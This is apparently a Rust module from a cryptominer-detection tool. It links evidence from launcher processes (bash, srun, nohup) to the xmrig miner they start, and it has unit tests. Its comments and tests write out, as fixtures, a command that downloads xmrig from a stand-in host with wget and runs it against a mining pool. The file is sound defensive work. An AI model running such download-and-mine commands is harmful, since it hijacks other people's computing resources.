//! Launchers: `timeout 600 ./xmrig -o …`, `bash -c "… ./xmrig …"`, `srun`, `sudo`, `nohup`.
//! A launcher's command line carries the miner's, so its exec gives the same evidence the
//! miner's does. That evidence is held, not raised, until the command it runs shows up; then
//! it joins that process's alert, which stays the one alert. A launcher whose command never
//! shows up (an exec that failed, a task started on another node) is not lost: its evidence
//! is raised on the launcher when it exits or after [`WAIT_NS`], whichever comes first.
use minerwatch_detect::indicators;

use super::{process::ProcessKey, signals::Found};

/// How long a launcher's evidence waits for the command it runs.
pub const WAIT_NS: u64 = 3_000_000_000;

/// Most launchers held at once; past this, a launcher's evidence is raised on it at once
/// (counted as `launches_unheld`).
const HELD_MAX: usize = 4096;

struct Held {
    key: ProcessKey,
    /// The words of the command it runs.
    words: Vec<String>,
    /// Its command starts outside its process tree (`srun`).
    remote: bool,
    found: Vec<Found>,
    since_ns: u64,
}

#[derive(Default)]
pub struct Launches {
    held: Vec<Held>,
    /// Launchers whose evidence joined the alert of the command they ran.
    pub joined: u64,
    /// Launchers whose evidence was raised on themselves: the command never showed up in time.
    pub alone: u64,
    pub unheld: u64,
    /// Launchers forgotten before their evidence was due.
    pub lost: u64,
}

impl Launches {
    /// The exec of `key` with `argv`, whose ancestors are `ancestors` (tgids, nearest first),
    /// gave `found`. If it is the command a held launcher runs (or the launcher itself,
    /// exec'ing in place), the launcher's evidence joins `found`. If it is a launcher, `found`
    /// is taken and held.
    ///
    /// The command must descend from the launcher (unless the launcher starts it elsewhere,
    /// as `srun` does), and give evidence of its own: the
    /// launcher's evidence came from the words of that command, so its exec gives the same.
    /// `bash -c "wget …/xmrig; ./xmrig -o …"` runs `wget` first, which is in the words but
    /// gives nothing, so the evidence waits for `./xmrig`.
    pub fn on_exec(
        &mut self,
        key: ProcessKey,
        argv: &[String],
        ancestors: &[u32],
        now_ns: u64,
        found: &mut Vec<Found>,
    ) {
        let evidence = !found.is_empty();
        if let Some(i) = self.held.iter().position(|h| {
            h.key.tgid == key.tgid
                || (evidence
                    && (h.remote || ancestors.contains(&h.key.tgid))
                    && indicators::runs_within(&h.words, argv))
        }) {
            let h = self.held.swap_remove(i);
            self.joined += 1;
            found.extend(h.found.into_iter().map(|f| Found {
                tgid: key.tgid,
                ..f
            }));
        }
        if found.is_empty() {
            return;
        }
        let Some(words) = indicators::launched(argv) else {
            return;
        };
        if self.held.len() >= HELD_MAX {
            self.unheld += 1;
            return;
        }
        self.held.push(Held {
            key,
            words,
            remote: indicators::launches_remotely(argv),
            found: std::mem::take(found),
            since_ns: now_ns,
        });
    }

    /// Processes that were running at start, with their argv: a held launcher whose command
    /// is one of them joins it.
    pub fn join_running<'a>(
        &mut self,
        running: impl Iterator<Item = (u32, &'a [String])>,
        out: &mut Vec<Found>,
    ) {
        for (tgid, argv) in running {
            let Some(i) = self
                .held
                .iter()
                .position(|h| h.key.tgid != tgid && indicators::runs_within(&h.words, argv))
            else {
                continue;
            };
            let h = self.held.swap_remove(i);
            self.joined += 1;
            out.extend(h.found.into_iter().map(|f| Found { tgid, ..f }));
        }
    }

    /// Evidence of launchers that waited long enough, or of `exited`, to be raised on the
    /// launchers themselves; `alive` says whether a launcher is still the process its key
    /// names (one forgotten without an exit, at reconciliation, has no record to raise on).
    pub fn due(
        &mut self,
        now_ns: u64,
        exited: Option<ProcessKey>,
        alive: impl Fn(ProcessKey) -> bool,
    ) -> Vec<Found> {
        let mut out = Vec::new();
        let mut i = 0;
        while i < self.held.len() {
            let h = &self.held[i];
            if Some(h.key) == exited || now_ns.saturating_sub(h.since_ns) >= WAIT_NS {
                let h = self.held.swap_remove(i);
                if alive(h.key) {
                    self.alone += 1;
                    out.extend(h.found);
                } else {
                    self.lost += 1;
                }
            } else {
                i += 1;
            }
        }
        out
    }

    pub fn held(&self) -> usize {
        self.held.len()
    }
}

#[cfg(test)]
mod tests {
    use minerwatch_detect::Finding;

    use super::*;

    fn key(tgid: u32) -> ProcessKey {
        ProcessKey { tgid, start: 1 }
    }

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| w.to_string()).collect()
    }

    fn evidence(tgid: u32) -> Vec<Found> {
        vec![Found {
            tgid,
            finding: Finding::MinerCmdline {
                indicators: vec!["-o pool.example:3333".into()],
            },
            peer: None,
        }]
    }

    #[test]
    fn the_launchers_evidence_joins_the_miner_it_started_not_a_download_or_a_stranger() {
        let mut l = Launches::default();
        let mut found = evidence(10);
        let script = "wget http://x.example/xmrig; ./xmrig -o pool.example:3333";
        l.on_exec(key(10), &argv(&["bash", "-c", script]), &[1], 0, &mut found);
        assert!(found.is_empty(), "held");
        // The download runs first: in the words, but no evidence of its own.
        let mut found = Vec::new();
        l.on_exec(
            key(11),
            &argv(&["wget", "http://x.example/xmrig"]),
            &[10, 1],
            1,
            &mut found,
        );
        assert!(found.is_empty());
        // The same command line elsewhere on the node, not under the launcher.
        let miner = argv(&["./xmrig", "-o", "pool.example:3333"]);
        let mut found = evidence(20);
        l.on_exec(key(20), &miner, &[2, 1], 2, &mut found);
        assert_eq!(found.len(), 1, "a stranger keeps its own evidence only");
        assert_eq!(l.joined, 0);
        // The miner under the launcher: one alert with both.
        let mut found = evidence(12);
        l.on_exec(key(12), &miner, &[10, 1], 3, &mut found);
        assert_eq!(found.len(), 2);
        assert!(found.iter().all(|f| f.tgid == 12));
        assert_eq!((l.joined, l.held.len()), (1, 0));
    }

    #[test]
    fn srun_starts_its_task_elsewhere_and_it_still_joins() {
        let mut l = Launches::default();
        let mut found = evidence(30);
        let miner = ["./xmrig", "-o", "pool.example:3333"];
        let mut cmd = vec!["srun", "-n1"];
        cmd.extend(miner);
        l.on_exec(key(30), &argv(&cmd), &[1], 0, &mut found);
        assert!(found.is_empty(), "held");
        // The task's parent is slurmstepd, not srun.
        let mut found = evidence(31);
        l.on_exec(key(31), &argv(&miner), &[5, 1], 1, &mut found);
        assert_eq!((found.len(), l.joined), (2, 1));
    }
}
